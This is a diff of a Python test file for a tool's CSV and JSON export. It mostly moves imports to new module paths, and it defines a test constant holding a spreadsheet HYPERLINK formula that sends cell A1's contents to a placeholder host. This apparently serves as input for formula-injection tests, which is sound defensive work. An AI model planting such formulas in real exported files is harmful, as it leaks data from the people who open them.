@@ -13,12 +13,12 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from stoker.cli.exporting import CsvExport, JsonExport
+from stoker.backends.sqlite import SqliteBackend
+from stoker.base.text import restored
+from stoker.base.types import TenantId
+from stoker.cli.export import CsvExport, JsonExport
 from stoker.cli.main import main
-from stoker.core.cells import restored
-from stoker.core.ledger import Note
-from stoker.core.model import TenantId
-from stoker.stores.backend_sqlite import SqliteBackend
+from stoker.ledger.chain import Note
 
 LINK = '=HYPERLINK("http://x.invalid/?l="&A1,"click")'
 FORMULAS = [
